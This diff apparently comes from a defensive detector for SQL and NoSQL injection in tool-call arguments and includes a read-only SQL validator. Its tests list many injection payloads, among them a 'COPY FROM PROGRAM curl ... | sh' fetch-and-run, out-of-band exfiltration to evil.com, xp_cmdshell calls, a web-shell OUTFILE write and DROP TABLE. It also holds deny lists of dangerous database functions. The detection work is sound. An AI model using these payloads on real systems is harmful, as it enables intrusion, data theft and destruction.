+    let ends = next.is_none_or(|n| matches!(n.kind, Kind::Semi | Kind::RParen) || n.is_any(&["FROM", "UNION", "LIMIT", "ORDER"]));
+    let from_recon =
+        next.is_some_and(|n| n.is("FROM")) && sig.get(j + 1).is_some_and(|n| RECON.contains(&n.text.as_str()) && n.text != "DUAL");
+    if items >= 3
+        && placeholders == items
+        && ends
+        && (next.is_none_or(|n| !n.is("FROM")) || from_recon || sig.get(j + 1).is_some_and(|n| n.is("DUAL")))
+    {
+        found.push((Confidence::Medium, "sql.union-probe", sig[i].at.start..sig[k].at.end));
+        return;
+    }
+    // `UNION ALL SELECT NULL, NULL, version()`: placeholders padding a
+    // fingerprinting call.
+    let recon_call = sig.iter().skip(k + 1).take(24).take_while(|y| !y.is("FROM")).any(|y| {
+        y.is_any(&[
+            "VERSION",
+            "USER",
+            "DATABASE",
+            "CURRENT_USER",
+            "SYSTEM_USER",
+            "SESSION_USER",
+            "DB_NAME",
+            "USER_NAME",
+            "SCHEMA",
+            "CURRENT_DATABASE",
+            "BANNER",
+        ]) || y.text.starts_with("@@")
+    });
+    if placeholders >= 1 && recon_call {
+        found.push((Confidence::Medium, "sql.union-probe", sig[i].at.start..sig[k].at.end));
+    }
+}
+
+/// NoSQL operator injection written as text: JSON with an operator under a
+/// credential field, `user[$ne]=` query strings, `$where` JavaScript.
+fn nosql_text(s: &Subject<'_>, out: &mut Vec<Hit>) {
+    let text = s.text;
+    if !text.contains('$') {
+        return;
+    }
+    let all = 0..text.len();
+    if matches(&NOSQL_AUTH_JSON, text) {
+        out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-operator", all.clone()));
+    }
+    if matches(&NOSQL_WHERE_JS, text) {
+        out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-where", all.clone()));
+    }
+    if let Some(re) = NOSQL_BRACKET.as_ref() {
+        let strapi = text.contains("filters[") || text.contains("filters%5B");
+        for c in re.captures_iter(text).take(16) {
+            let field = c.get(1).map_or("", |m| m.as_str());
+            let op = c.get(2).map_or("", |m| m.as_str()).to_ascii_lowercase();
+            let at = c.get(0).map_or(all.clone(), |m| m.range());
+            if matches(&AUTH_FIELD, field) || op == "where" {
+                out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-operator", at));
+                break;
+            }
+            if !strapi && matches!(op.as_str(), "ne" | "gt" | "regex" | "exists" | "nin" | "expr" | "or" | "nor" | "not") {
+                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", at));
+                break;
+            }
+        }
+    }
+    if matches(&NOSQL_OBJECT, text) && s.context != Context::Sql {
+        // A string that is just an operator object, where a plain value is expected.
+        let c = if matches(&AUTH_FIELD, s.field) { Confidence::High } else { Confidence::Medium };
+        out.push(Hit::new(Family::SqlInjection, c, "sql.nosql-operator", all));
+    }
+}
+
+/// The value of an operator key (`{"$where": "..."}`, `{"$regex": ".*"}`).
+fn nosql_value(s: &Subject<'_>, out: &mut Vec<Hit>) {
+    let all = 0..s.text.len();
+    match s.field {
+        "$where" | "$function" | "$accumulator" | "body" if s.field != "body" || s.text.contains("function") => {
+            if matches(&JS_BAD, s.text) {
+                out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-where", all));
+            } else if s.field == "$where" {
+                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-where", all));
+            }
+        }
+        "$regex" => {
+            let t = s.text.trim();
+            // Match-anything, or a one-to-three character prefix then `.*`
+            // (`^a.*`): enumerating a secret character by character.
+            let enumeration = t
+                .strip_prefix('^')
+                .and_then(|r| r.strip_suffix(".*"))
+                .is_some_and(|p| !p.is_empty() && p.len() <= 3 && p.chars().all(|c| c.is_alphanumeric()));
+            if enumeration || matches!(t, ".*" | "^.*" | ".*$" | "^.*$" | ".+" | "^.+" | "^.+$" | "^" | "" | "[\\s\\S]*" | "(.*)") {
+                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", all));
+            }
+        }
+        "$gt" | "$gte" if s.text.is_empty() => {
+            out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", all));
+        }
+        _ => {}
+    }
+}
+
+/// Tools that take credentials: an operator object there is injection.
+fn auth_tool(tool: &str) -> bool {
+    ["login", "signin", "sign_in", "auth", "session", "password", "verify", "credential", "otp", "2fa", "mfa"]
+        .iter()
+        .any(|w| tool.contains(w))
+}
+
+/// An object key: a NoSQL operator. The parent field is unknown, so the key
+/// alone is weak evidence except `$where` and operators sent to a login tool.
+fn nosql_key(s: &Subject<'_>, out: &mut Vec<Hit>) {
+    let k = s.text.trim();
+    if !k.starts_with('$') {
+        return;
+    }
+    let op = k.to_ascii_lowercase();
+    let risky = matches!(
+        op.as_str(),
+        "$ne"
+            | "$gt"
+            | "$gte"
+            | "$lt"
+            | "$lte"
+            | "$regex"
+            | "$exists"
+            | "$nin"
+            | "$in"
+            | "$not"
+            | "$where"
+            | "$expr"
+            | "$or"
+            | "$nor"
+            | "$function"
+    );
+    if !risky {
+        return;
+    }
+    // A database tool takes operators; a login takes none; any other tool
+    // (an HTTP call, a generic function) rarely sends the match-anything ones.
+    let database = [
+        "mongo",
+        "db",
+        "find",
+        "aggregate",
+        "query",
+        "search",
+        "filter",
+        "elastic",
+        "es.",
+        "strapi",
+        "analytics",
+        "report",
+        "sql",
+        "count",
+        "index",
+    ]
+    .iter()
+    .any(|w| s.tool.contains(w));
+    // A generic wrapper (`function_call`, no tool) hides the real tool: no evidence either way.
+    let unknown = s.tool.is_empty() || s.tool.contains("function") || s.tool.contains("tool_call");
+    // `s.field` of a key is its parent's field name when the walker provides
+    // it: an operator object under `password` is injection whatever the tool
+    // (under `email` or `username` it may be a legitimate filter).
+    let secret_field = matches!(
+        s.field,
+        "password" | "passwd" | "pwd" | "pass" | "passcode" | "pin" | "otp" | "token" | "secret" | "api_key" | "apikey" | "password_hash"
+    );
+    let c = if auth_tool(s.tool) || secret_field {
+        Confidence::High
+    } else if matches!(op.as_str(), "$where" | "$function")
+        || (!database && !unknown && matches!(op.as_str(), "$ne" | "$gt" | "$regex" | "$exists" | "$nin" | "$expr" | "$nor"))
+    {
+        Confidence::Medium
+    } else {
+        Confidence::Low
+    };
+    out.push(Hit::new(Family::SqlInjection, c, "sql.nosql-operator", 0..s.text.len()));
+}
+
+/// Functions a read-only statement may not call (side effects, files,
+/// sleeps, locks, sequences, session state).
+const SIDE_EFFECT_FUNCS: &[&str] = &[
+    "SLEEP",
+    "PG_SLEEP",
+    "PG_SLEEP_FOR",
+    "PG_SLEEP_UNTIL",
+    "BENCHMARK",
+    "LOAD_FILE",
+    "PG_READ_FILE",
+    "PG_READ_BINARY_FILE",
+    "PG_LS_DIR",
+    "PG_STAT_FILE",
+    "LO_IMPORT",
+    "LO_EXPORT",
+    "LO_UNLINK",
+    "LO_CREATE",
+    "LO_FROM_BYTEA",
+    "LO_PUT",
+    "DBLINK",
+    "DBLINK_EXEC",
+    "DBLINK_CONNECT",
+    "SET_CONFIG",
+    "NEXTVAL",
+    "SETVAL",
+    "PG_ADVISORY_LOCK",
+    "PG_ADVISORY_XACT_LOCK",
+    "PG_TRY_ADVISORY_LOCK",
+    "PG_TERMINATE_BACKEND",
+    "PG_CANCEL_BACKEND",
+    "PG_RELOAD_CONF",
+    "PG_ROTATE_LOGFILE",
+    "PG_SWITCH_WAL",
+    "PG_CREATE_RESTORE_POINT",
+    "PG_NOTIFY",
+    "PG_LOGICAL_EMIT_MESSAGE",
+    "TXID_CURRENT",
+    "GET_LOCK",
+    "RELEASE_LOCK",
+    "RELEASE_ALL_LOCKS",
+    "MASTER_POS_WAIT",
+    "SOURCE_POS_WAIT",
+    "SYS_EXEC",
+    "SYS_EVAL",
+    "XP_CMDSHELL",
+    "XP_DIRTREE",
+    "XP_FILEEXIST",
+    "OPENROWSET",
+    "OPENDATASOURCE",
+    "OPENQUERY",
+    "LOAD_EXTENSION",
+    "RANDOMBLOB",
+    "WRITEFILE",
+    "READFILE",
+    "EDIT",
+    "FTS3_TOKENIZER",
+    "QUERY_TO_XML",
+    "QUERY_TO_XML_AND_XMLSCHEMA",
+    "CURSOR_TO_XML",
+    "TABLE_TO_XML",
+];
+/// Package prefixes (Oracle) a read-only statement may not call.
+const SIDE_EFFECT_PACKAGES: &[&str] = &["DBMS_", "UTL_", "SYS.DBMS_", "SYS.UTL_", "CTXSYS.", "HTTPURITYPE"];
 
 /// Whether `text` is exactly one read-only statement, for a `kind = "sql",
-/// read_only = true` schema.
+/// read_only = true` schema: `SELECT`, `WITH ... SELECT`, `VALUES`, `SHOW`,
+/// `EXPLAIN` (without `ANALYZE`) of those; no `SELECT ... INTO`, no locking
+/// clause, no data-modifying CTE, no file, sleep or side-effect function.
 ///
 /// # Errors
-/// Why it is not.
-pub(crate) fn read_only(_text: &str) -> Result<(), String> {
-    Err("not implemented".into())
+/// Why it is not (the first reason found).
+pub(crate) fn read_only(text: &str) -> Result<(), String> {
+    if text.len() > MAX_PARSE {
+        return Err(format!("statement of {} bytes, over the {MAX_PARSE} byte limit", text.len()));
+    }
+    // Token checks first: they hold whatever the dialect.
+    let toks = lex(text, 0, text.len(), &GenericDialect {});
+    for (i, t) in toks.iter().enumerate() {
+        if t.is_any(&["OUTFILE", "DUMPFILE"]) {
+            return Err(format!("writes a file ({})", t.text));
+        }
+        if let Some((name, j)) = name_at(&toks, i) {
+            let call = toks.get(j).is_some_and(|x| x.kind == Kind::LParen);
+            if call && (named(&name, SIDE_EFFECT_FUNCS) || SIDE_EFFECT_PACKAGES.iter().any(|p| name.starts_with(p))) {
+                return Err(format!("calls {name}, which has side effects"));
+            }
+        }
+    }
+    let dialects: [&dyn Dialect; 4] = [&GenericDialect {}, &PostgreSqlDialect {}, &MySqlDialect {}, &MsSqlDialect {}];
+    let mut first_err = None;
+    for d in dialects {
+        let parsed = Parser::new(d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(text).and_then(|mut p| p.parse_statements());
+        match parsed {
+            Ok(stmts) => {
+                let [stmt] = stmts.as_slice() else {
+                    return Err(format!("{} statements, exactly one expected", stmts.len()));
+                };
+                return statement_reads(stmt);
+            }
+            Err(e) => {
+                first_err.get_or_insert_with(|| e.to_string());
+            }
+        }
+    }
+    Err(format!("not parsed as SQL: {}", first_err.unwrap_or_default()))
+}
+
+/// Whether one parsed statement only reads.
+fn statement_reads(stmt: &Statement) -> Result<(), String> {
+    match stmt {
+        Statement::Query(q) => query_reads(q),
+        // EXPLAIN ANALYZE runs the statement: it must read only, like the rest.
+        Statement::Explain { statement, .. } => statement_reads(statement),
+        Statement::ExplainTable { .. }
+        | Statement::ShowFunctions { .. }
+        | Statement::ShowVariable { .. }
+        | Statement::ShowStatus { .. }
+        | Statement::ShowVariables { .. }
+        | Statement::ShowCreate { .. }
+        | Statement::ShowColumns { .. }
+        | Statement::ShowCatalogs { .. }
+        | Statement::ShowDatabases { .. }
+        | Statement::ShowSchemas { .. }
+        | Statement::ShowCharset(_)
+        | Statement::ShowObjects(_)
+        | Statement::ShowTables { .. }
+        | Statement::ShowViews { .. }
+        | Statement::ShowCollation { .. } => Ok(()),
+        other => {
+            let head: String = other.to_string().split_whitespace().take(2).collect::<Vec<_>>().join(" ");
+            Err(format!("not a read: {head}"))
+        }
+    }
+}
+
+/// Whether a query only reads (its CTEs, set operations and selects).
+fn query_reads(q: &sqlparser::ast::Query) -> Result<(), String> {
+    if !q.locks.is_empty() {
+        return Err("locking clause (FOR UPDATE / FOR SHARE)".into());
+    }
+    if let Some(with) = &q.with {
+        for cte in &with.cte_tables {
+            query_reads(&cte.query)?;
+        }
+    }
+    set_reads(&q.body)
+}
+
+/// Whether a query body (a select, a set operation, VALUES) only reads.
+fn set_reads(body: &SetExpr) -> Result<(), String> {
+    match body {
+        SetExpr::Select(s) => {
+            if s.into.is_some() {
+                return Err("SELECT ... INTO writes a table or variables".into());
+            }
+            Ok(())
+        }
+        SetExpr::Query(q) => query_reads(q),
+        SetExpr::SetOperation { left, right, .. } => {
+            set_reads(left)?;
+            set_reads(right)
+        }
+        SetExpr::Values(_) | SetExpr::Table(_) => Ok(()),
+        _ => Err("data-modifying statement inside the query".into()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hits(text: &str, context: Context, field: &str) -> Vec<Hit> {
+        let s = Subject { text, context, field, tool: "", decoded: false };
+        let mut out = Vec::new();
+        analyze(&s, &mut out);
+        out
+    }
+
+    fn max(text: &str, context: Context, field: &str) -> Option<Confidence> {
+        hits(text, context, field).iter().map(|h| h.confidence).max()
+    }
+
+    fn flagged(text: &str, field: &str) -> bool {
+        max(text, super::super::context_of(field, ""), field) >= Some(Confidence::Medium)
+    }
+
+    #[test]
+    fn regexes_compile() {
+        assert!(VALUE_TRIGGER.is_some() && STATEMENT_TRIGGER.is_some());
+        assert!(DANGER.is_some() && BARE_HEAD.is_some() && BREAK_HEAD.is_some());
+        assert!(NOSQL_AUTH_JSON.is_some() && NOSQL_BRACKET.is_some() && NOSQL_OBJECT.is_some() && NOSQL_WHERE_JS.is_some());
+        assert!(JS_BAD.is_some() && AUTH_FIELD.is_some());
+    }
+
+    #[test]
+    fn tautologies_after_a_quote() {
+        for a in ["' OR '1'='1", "admin' or 1=1#", "x') OR ('a'='a", "' OR 1=1 LIMIT 1 -- ", "1' or true--", "' || '1'=='1"] {
+            assert!(flagged(a, "username"), "{a}");
+        }
+        for l in ["O'Brien", "Rock 'n' roll", "it's 1 or 2 = 3 days", "Ben & Jerry's or Häagen-Dazs"] {
+            assert!(!flagged(l, "name"), "{l}");
+        }
+    }
+
+    #[test]
+    fn number_context() {
+        for a in [
+            "1 OR 1=1",
+            "1) OR (1=1",
+            "-1 UNION ALL SELECT NULL,version()--",
+            "5 AND SLEEP(5)",
+            "1; DROP TABLE users--",
+            "3 AND ASCII(SUBSTRING(user(),1,1))>64",
+        ] {
+            assert!(flagged(a, "id"), "{a}");
+        }
+        for l in ["1", "42 or 43", "cats or dogs", "order 66", "10-20"] {
+            assert!(!flagged(l, "id"), "{l}");
+        }
+    }
+
+    #[test]
+    fn comment_terminator() {
+        assert!(flagged("admin'--", "username"));
+        assert!(flagged("admin')#", "username"));
+        assert!(!flagged("Don't -- really", "search"));
+    }
+
+    #[test]
+    fn union_and_stacked() {
+        assert!(flagged("' UNION SELECT username, password FROM users--", "search"));
+        assert!(flagged("x'; DROP TABLE orders; --", "name"));
+        assert!(flagged("a'; EXEC master..xp_cmdshell 'whoami'--", "name"));
+        assert!(!flagged("Trade union; selection of delegates", "search"));
+    }
+
+    #[test]
+    fn comment_split_and_versioned() {
+        assert!(flagged("1 UN/**/ION SEL/**/ECT 1,2,3", "id"));
+        assert!(flagged("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "id"));
+        assert!(!flagged("/*!40101 SET NAMES utf8mb4 */;\nCREATE TABLE t (id int);", "sql"));
+    }
+
+    #[test]
+    fn blind_and_oob() {
+        for a in [
+            "1' AND IF(1=1,SLEEP(5),0)--",
+            "'; WAITFOR DELAY '0:0:5'--",
+            "1'||pg_sleep(10)--",
+            "' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
+            "' AND extractvalue(1,concat(0x7e,version()))--",
+            "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.evil.com\\\\a'))--",
+        ] {
+            assert!(flagged(a, "q"), "{a}");
+        }
+        assert!(!flagged("I need sleep (8 hours at least)", "search"));
+    }
+
+    #[test]
+    fn statement_mode() {
+        let ok = [
+            "-- weekly revenue\nSELECT region, SUM(amount) FROM sales WHERE 1=1 AND day >= '2024-01-01' GROUP BY region UNION ALL SELECT 'total', SUM(amount) FROM sales",
+            "WITH r AS (SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY ts) rn FROM events) SELECT * FROM r WHERE rn = 1",
+            "SELECT name FROM users WHERE name = 'O''Brien' OR email LIKE '%@example.com'",
+            "CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN name text; DROP INDEX IF EXISTS t_idx;",
+            "SELECT hex(randomblob(16)) AS id",
+            "SELECT count(*) FROM staging; DELETE FROM staging WHERE loaded_at < now() - interval '7 days'",
+            "EXEC sp_configure 'max server memory (MB)', 4096; RECONFIGURE",
+        ];
+        for q in ok {
+            assert!(!flagged(q, "query"), "{q}");
+        }
+        let bad = [
+            "SELECT * FROM users WHERE name = '' OR '1'='1'",
+            "SELECT * FROM t WHERE id = 1; DROP TABLE users",
+            "SELECT SLEEP(10)",
+            "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
+            "COPY t FROM PROGRAM 'curl http://x | sh'",
+            "EXEC xp_cmdshell 'net user'",
+            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
+            "SELECT * FROM users; DELETE FROM users",
+            "SELECT a FROM t UNION SELECT NULL,NULL,NULL--",
+            "SELECT id, name FROM users WHERE id = 2 UNION ALL SELECT NULL, version()",
+            "SELECT name FROM products WHERE category = 'toys' UNION SELECT username, password_hash FROM admin_users--",
+            "SELECT * FROM articles WHERE slug='intro' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 -- ",
+        ];
+        for q in bad {
+            assert!(flagged(q, "query"), "{q}");
+        }
+    }
+
+    #[test]
+    fn search_text_in_query_field_is_a_value() {
+        assert!(flagged("' OR 1=1--", "q"));
+        assert!(!flagged("select all users from Paris", "q"));
+        assert!(flagged("drop me' OR '1'='1", "q"));
+        assert!(flagged("delete me' OR '1'='1", "name"));
+    }
+
+    #[test]
+    fn nosql() {
+        let s = |text, context, field, tool| {
+            let s = Subject { text, context, field, tool, decoded: false };
+            let mut out = Vec::new();
+            analyze(&s, &mut out);
+            out.iter().map(|h| h.confidence).max()
+        };
+        assert_eq!(s(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#, Context::Text, "arguments", ""), Some(Confidence::High));
+        assert_eq!(s("username[$ne]=admin&password[$ne]=x", Context::Url, "url", ""), Some(Confidence::High));
+        assert!(s("filters[price][$gte]=10&filters[title][$containsi]=rock", Context::Url, "url", "").is_none());
+        assert_eq!(s("this.password.match(/^a/) || 1==1", Context::Unknown, "$where", ""), Some(Confidence::High));
+        assert_eq!(s("$ne", Context::Key, "", "auth.login"), Some(Confidence::High));
+        assert_eq!(s("$ne", Context::Key, "password", "mongo.find"), Some(Confidence::High));
+        assert!(s("$in", Context::Key, "status", "mongo.find") < Some(Confidence::Medium));
+        assert!(s("$ne", Context::Key, "email", "mongo.find") < Some(Confidence::Medium));
+        assert!(s("$in", Context::Key, "", "mongo.find") < Some(Confidence::Medium));
+        assert!(s("$gte", Context::Key, "", "analytics.query") < Some(Confidence::Medium));
+        assert!(flagged("'; return true; var x='", "name"));
+        assert_eq!(s(".*", Context::Unknown, "$regex", ""), Some(Confidence::Medium));
+        assert!(s("^smith", Context::Unknown, "$regex", "").is_none());
+        assert_eq!(s("^a.*", Context::Unknown, "$regex", ""), Some(Confidence::Medium));
+        assert!(s("^smith.*", Context::Unknown, "$regex", "").is_none());
+    }
+
+    #[test]
+    fn read_only_statements() {
+        for q in [
+            "SELECT 1",
+            "WITH a AS (SELECT 1 AS x) SELECT x FROM a",
+            "VALUES (1), (2)",
+            "EXPLAIN SELECT * FROM t",
+            "SHOW TABLES",
+            "EXPLAIN ANALYZE SELECT * FROM t WHERE id = 1",
+            "SELECT * FROM t;",
+            "SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1",
+        ] {
+            assert_eq!(read_only(q), Ok(()), "{q}");
+        }
+        for q in [
+            "DELETE FROM t",
+            "SELECT 1; SELECT 2",
+            "SELECT * FROM t FOR UPDATE",
+            "SELECT * INTO new_t FROM t",
+            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
+            "SELECT pg_sleep(5)",
+            "SELECT load_file('/etc/passwd')",
+            "EXPLAIN ANALYZE DELETE FROM t",
+            "EXPLAIN ANALYZE SELECT pg_sleep(1)",
+            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
+            "SELECT nextval('s')",
+            "COPY t TO '/tmp/x'",
+            "not sql at all",
+        ] {
+            assert!(read_only(q).is_err(), "{q}");
+        }
+        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
+        assert!(read_only(&deep).is_err());
+    }
+}
+
+#[cfg(test)]
+mod bounds {
+    use super::*;
+
+    /// Pathological inputs stay linear (a loose bound: debug builds are slow).
+    #[test]
+    fn worst_cases_are_linear() {
+        let cases = [
+            "a/**/".repeat(12_000),
+            "x--y ".repeat(12_000),
+            "' OR 1=1 ".repeat(6_000),
+            "1 UNION SELECT a FROM b ".repeat(2_500),
+            "@@v UNION ".repeat(6_000),
+            "/*!".repeat(20_000),
+            "(".repeat(60_000),
+            format!("SELECT {} FROM t", "a OR b = c, ".repeat(5_000)),
+            "It's a long prose text, isn't it; and or 1 = 2 ".repeat(1_300),
+        ];
+        for text in &cases {
+            for context in [Context::Unknown, Context::Sql, Context::Text] {
+                let s = Subject { text, context, field: "name", tool: "", decoded: false };
+                let t = std::time::Instant::now();
+                let mut out = Vec::new();
+                analyze(&s, &mut out);
+                assert!(t.elapsed() < std::time::Duration::from_secs(2), "{} bytes took {:?}", text.len(), t.elapsed());
+            }
+            let t = std::time::Instant::now();
+            let _ = read_only(text);
+            assert!(t.elapsed() < std::time::Duration::from_secs(2), "read_only on {} bytes took {:?}", text.len(), t.elapsed());
+        }
+    }
+}
+#[cfg(test)]
+mod payloads {
+    use super::*;
+
+    /// Attacks from PayloadsAllTheThings and OWASP in value fields; hard
+    /// legitimate values next to them.
+    #[test]
+    fn attacks_flagged_and_values_not() {
+        let attacks: &[(&str, &str)] = &[
+            ("username", "admin' or '1'='1'/*"),
+            ("username", "admin\" or \"1\"=\"1"),
+            ("username", "' or 1=1 or ''='"),
+            ("id", "1 or 1=1--"),
+            ("id", "1' or '1'='1"),
+            ("id", "1)) OR ((1=1"),
+            ("id", "1 AND 1=1"),
+            ("id", "-1' UNION SELECT 1,2,3-- -"),
+            ("id", "1' ORDER BY 1--+"),
+            ("id", "1 ORDER BY 10"),
+            ("search", "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables WHERE '%'='"),
+            ("search", "' AND '1'='1"),
+            ("search", "test' AND 1=(SELECT COUNT(*) FROM users)--"),
+            ("search", "1' WAITFOR DELAY '00:00:05'--"),
+            ("search", "';WAITFOR DELAY '0:0:5'--"),
+            ("id", "1;SELECT pg_sleep(5)"),
+            ("id", "1 AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)"),
+            ("name", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
+            (
+                "name",
+                "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),version(),FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x)--",
+            ),
+            ("user", "admin' AND substring(password,1,1)='a"),
+            ("user", "' OR username LIKE '%admin%"),
+            ("email", "x@y.com'; EXEC sp_executesql N'SELECT 1'--"),
+            ("id", "1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64"),
+            ("id", "1' AND 1=1 AND '1'='1"),
+            ("id", "' OR 1=1; --"),
+            ("q", "1' OR '1'='1' /*"),
+            ("q", "')) or true--"),
+            ("q", "\" or \"\"=\""),
+            ("q", "' or ''='"),
+            ("q", "'=' 'or'"),
+            ("q", "admin' #"),
+            ("q", "1 or sleep(5)#"),
+            ("q", "1) or pg_sleep(5)--"),
+            ("q", "' AnD SlEeP(5) ANd '1"),
+            ("q", "'+(SELECT 1 WHERE 1=1 AND SLEEP(5))+'"),
+            ("q", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)--"),
+            ("q", "' union all select null,null,null,table_name from all_tables--"),
+            ("q", "1;copy (select '') to program 'nslookup x.burpcollaborator.net'"),
+            ("value", "' OR EXISTS(SELECT 1 FROM dual WHERE 1=1) AND '1'='1"),
+            ("value", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+            ("value", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
+            ("value", "x' AND 'x'='x"),
+            ("input", "1' and 1=2 union select 1,2,group_concat(username,0x3a,password) from users-- -"),
+            ("data", "'; exec master..xp_cmdshell 'ping 10.10.1.2'--"),
+            ("cmd", "psql -c \"COPY t FROM PROGRAM 'curl http://203.0.113.9/x | sh'\""),
+            (
+                "term",
+                "a' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -",
+            ),
+            ("username", "admin'/*"),
+            ("username", "' OR 'x'='x'#"),
+            ("id", "1 || 1=1"),
+            ("id", "1 or true"),
+            ("name", "Robert'); DROP TABLE Students;--"),
+            ("user_id", "1 UNION SELECT NULL, table_name FROM information_schema.tables"),
+            ("query", "SELECT * FROM users WHERE username = 'admin' --' AND password = 'x'"),
+            ("url", "https://shop.example.com/item?id=1 OR 1=1&lang=en"),
+            ("url", "https://shop.example.com/item?cat=2&id=5+AND+SLEEP(5)"),
+            ("name", "admin' && this.password.match(/^a.*/)//"),
+            ("name", "' || 1==1//"),
+        ];
+        let legit: &[(&str, &str)] = &[
+            ("name", "Mary-Kate O'Hara"),
+            ("search", "'The Godfather' or 'Goodfellas'"),
+            ("q", "cats AND dogs OR birds"),
+            ("q", "rock 'n' roll -- classics"),
+            ("search", "\"exact phrase\" or \"another\""),
+            ("id", "2024-06-01"),
+            ("sku", "A-100/B"),
+            ("message", "Let's meet at 5; I'll bring the docs -- John"),
+            ("title", "Don't Stop Me Now"),
+            ("address", "1 O'Connell St; Dublin 1"),
+            ("query", "title:\"don't\" AND year:>=2000"),
+            ("filter", "price >= 10 and price <= 100"),
+            ("q", "select the best option; update later"),
+            ("note", "I'd say 1 = 1 is trivially true; 'or' is a keyword"),
+            ("search", "what's new in SQL 2023: union, intersect"),
+            ("name", "Sinéad O'Connor"),
+            ("comment", "it's 50% off -- today only; don't miss"),
+            ("q", "1 or 2 bedroom apartments"),
+            ("keywords", "sleep(tracking) app"),
+            ("text", "The WHERE clause 1=1 trick is used by query builders."),
+            ("cmd", "mysql -u root -e \"DROP DATABASE staging; CREATE DATABASE staging\" && echo 'done' -- ok"),
+            ("command", "psql -c 'SELECT 1' ; echo \"' OR 1=1\" > /tmp/sample.txt"),
+            ("query", "SELECT * FROM orders WHERE status = 'open' -- don't include 'closed' ones\nORDER BY id"),
+            ("url", "https://example.com/search?q=rock+or+roll&page=2"),
+            ("url", "https://example.com/p?name=O'Brien&sort=name;asc"),
+            ("content", "bot_token: xoxb-your-bot-token-here\ndefault_channel: \"#alerts\"\n"),
+            (
+                "description",
+                "Rule 942100 blocks searches with words like 'union' and 'select'. Attack samples like `1' UNION SELECT password FROM users--` must still be blocked by the rule we keep.",
+            ),
+        ];
+        for (f, a) in attacks {
+            let m = max(a, super::super::context_of(f, ""), f);
+            assert!(m >= Some(Confidence::Medium), "missed in {f}: {a}");
+        }
+        for (f, a) in legit {
+            let h = hits(a, super::super::context_of(f, ""), f);
+            assert!(h.iter().all(|h| h.confidence < Confidence::Medium), "flagged in {f}: {a} {h:?}");
+        }
+    }
+    fn hits(text: &str, context: Context, field: &str) -> Vec<Hit> {
+        let s = Subject { text, context, field, tool: "", decoded: false };
+        let mut out = Vec::new();
+        analyze(&s, &mut out);
+        out
+    }
+    fn max(text: &str, context: Context, field: &str) -> Option<Confidence> {
+        hits(text, context, field).iter().map(|h| h.confidence).max()
+    }
 }
